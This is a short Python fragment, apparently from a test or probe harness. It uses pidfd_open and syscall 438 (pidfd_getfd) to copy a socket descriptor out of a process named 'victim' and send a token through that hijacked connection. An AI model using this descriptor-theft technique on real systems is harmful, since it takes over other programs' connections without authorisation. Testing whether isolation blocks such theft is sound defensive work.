# A connection of a process outside, taken out of its hands.
def attempt():
    pidfd = os.pidfd_open(p["victim"]["pid"])
    descriptor = call(438, pidfd, p["victim"]["descriptors"][0], 0)
    with socket.socket(fileno=descriptor) as s:
        s.settimeout(PATIENCE)
        s.sendall(TOKEN)
